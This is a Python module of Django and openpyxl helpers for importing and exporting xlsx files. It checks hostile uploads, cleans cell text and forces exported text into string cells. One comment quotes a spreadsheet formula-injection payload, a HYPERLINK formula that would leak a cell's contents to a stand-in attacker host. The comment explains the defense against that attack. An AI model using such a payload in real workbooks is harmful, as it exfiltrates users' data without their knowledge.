"""Small helpers shared by every xlsx import and export."""

import io
import re
from datetime import datetime

from django.http import HttpResponse
from django.utils import timezone
from django.utils.encoding import escape_uri_path
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from wenming.core.text import printable

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FULL_WIDTH_DIGITS = str.maketrans("０１２３４５６７８９　", "0123456789 ")
FULL_WIDTH_PUNCTUATION = str.maketrans("（）：，．", "():,.")


class UnreadableWorkbook(Exception):
    pass


def open_workbook(uploaded) -> Workbook:
    """Open an uploaded xlsx read-only, with a Chinese message for anything that is not one. The limits against
    hostile files (size, zip bombs, macros, a million declared rows) are checked before openpyxl sees it."""
    from wenming.core.tables import UnreadableFile, check_upload, read_upload

    name = getattr(uploaded, "name", "") or ""
    if name.lower().endswith((".xls", ".et", ".csv")):
        raise UnreadableWorkbook(f"不支持“{name}”的格式，请在 Excel 或 WPS 中另存为 .xlsx 后再上传（可先下载模板）。")
    try:
        data = read_upload(uploaded)
        if not data:
            raise UnreadableWorkbook("上传的文件是空的。")
        if check_upload(data, name) != "xlsx":
            raise UnreadableWorkbook("无法读取该文件：它不是 .xlsx 工作簿（可先下载模板，按模板填写）。")
        return load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except UnreadableWorkbook:
        raise
    except UnreadableFile as error:
        if any(word in str(error) for word in ("上限", "压缩", "宏", "过大", "密码", "超时")):
            raise UnreadableWorkbook(str(error)) from None  # hostile or too big: say exactly why
        raise UnreadableWorkbook("无法读取该文件：它不是有效的 .xlsx 工作簿（可先下载模板，按模板填写）。") from None
    except Exception:
        raise UnreadableWorkbook("无法读取该文件：它不是有效的 .xlsx 工作簿（可先下载模板，按模板填写）。") from None


def cell_text(value) -> str:
    """A cell as clean text: full-width digits folded, numbers without a trailing .0, spaces trimmed.

    Punctuation is kept as written (names like 立案庭（诉讼服务中心） must survive); use `match_key` to compare.
    """
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d")
    return re.sub(r"\s+", " ", str(value).translate(FULL_WIDTH_DIGITS)).strip()


def match_key(value) -> str:
    """Text reduced for matching names: bracket and colon width and letter case do not matter."""
    return cell_text(value).translate(FULL_WIDTH_PUNCTUATION).lower()


def header_key(value) -> str:
    """A header cell reduced for matching: no spaces, no asterisks or brackets of notes."""
    text = cell_text(value).translate(FULL_WIDTH_PUNCTUATION)
    text = re.sub(r"[（(].*?[)）]", "", text)
    return re.sub(r"[\s*＊:：]", "", text)


# --------------------------------------------------------------------------------------------- writing
# Every cell written from stored text goes through `safe_cell` / `put_cell` / `append_row`: its control characters
# removed (openpyxl refuses them, issue 19) and, being text, written as text. A title like
# =HYPERLINK("http://evil.example/?leak="&A1,"点击查看") stays words in Excel, never a live formula: the cell is a
# string cell (t="inlineStr"), which no spreadsheet evaluates, and the text is kept exactly (a re-import reads it
# back unchanged, with no quote added).
SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/*?:\[\]]")


def _set(cell: Cell, value) -> Cell:
    value = printable(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # never "f": openpyxl makes any text starting with "=" a formula
    return cell


def safe_cell(sheet, value) -> Cell:
    """A cell for `sheet.append([...])` (normal or write-only sheets) holding `value`, text kept as text."""
    return _set(Cell(sheet), value)


def put_cell(sheet, row: int, column: int, value) -> Cell:
    """`sheet.cell(row=…, column=…, value=…)` with the value written safely."""
    return _set(sheet.cell(row=row, column=column), value)


def append_row(sheet, values) -> None:
    """`sheet.append(values)` with every value written safely."""
    sheet.append([safe_cell(sheet, value) for value in values])


def sheet_title(title: str) -> str:
    """A worksheet name Excel accepts: no control characters or []:*?/\\, at most 31 characters."""
    return SHEET_TITLE_FORBIDDEN.sub(" ", printable(str(title))).strip()[:31] or "Sheet"


def build_workbook(title: str, headers: list[str], rows, *, widths: list[int] | None = None, note: str = "",
                   write_only: bool = False) -> Workbook:
    """One sheet: an optional grey note line, bold headers, the rows. `write_only` streams the rows (openpyxl's
    write-only mode, several times faster for tens of thousands of rows); the layout is the same."""
    if write_only:
        return _streamed_workbook(title, headers, rows, widths=widths, note=note)
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(title)
    start = 1
    if note:
        put_cell(sheet, 1, 1, note).font = Font(color="666666")
        start = 2
    fill = PatternFill("solid", fgColor="DDE6F0")
    for column, header in enumerate(headers, start=1):
        cell = put_cell(sheet, start, column, header)
        cell.font = Font(bold=True)
        cell.fill = fill
        cell.alignment = Alignment(horizontal="center")
        sheet.column_dimensions[get_column_letter(column)].width = (widths or [])[column - 1] if widths and column <= len(widths) else 16
    for row in rows:
        append_row(sheet, row)
    sheet.freeze_panes = sheet.cell(row=start + 1, column=1)
    return workbook


def _streamed_workbook(title, headers, rows, *, widths, note) -> Workbook:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_title(title))
    for column in range(1, len(headers) + 1):
        width = widths[column - 1] if widths and column <= len(widths) else 16
        sheet.column_dimensions[get_column_letter(column)].width = width
    start = 1
    if note:
        cell = _streamed_cell(sheet, 1, note)
        cell.font = Font(color="666666")
        sheet.append([cell])
        start = 2
    sheet.freeze_panes = f"A{start + 1}"
    fill = PatternFill("solid", fgColor="DDE6F0")
    header_cells = []
    for column, header in enumerate(headers, start=1):
        cell = _streamed_cell(sheet, column, header)
        cell.font, cell.fill, cell.alignment = Font(bold=True), fill, Alignment(horizontal="center")
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in rows:
        values = []
        for column, value in enumerate(row, start=1):
            value = printable(value)
            # Plain values are written as they are; only text openpyxl would take for a formula needs a cell.
            values.append(_streamed_cell(sheet, column, value) if isinstance(value, str) and value.startswith("=")
                          else value)
        sheet.append(values)
    return workbook


def _streamed_cell(sheet, column: int, value) -> Cell:
    cell = safe_cell(sheet, value)
    cell.column = column  # a write-only sheet names the cell by its column when it takes it
    return cell


def download_response(content: bytes, filename: str, content_type: str) -> HttpResponse:
    """An export as an attachment, never kept by a browser or proxy cache (it holds the unit's data)."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{escape_uri_path(filename)}"
    response["Cache-Control"] = "private, no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response


def xlsx_response(workbook: Workbook, filename: str) -> HttpResponse:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return download_response(buffer.getvalue(), f"{filename}-{timezone.localtime():%Y%m%d-%H%M}.xlsx", XLSX_TYPE)
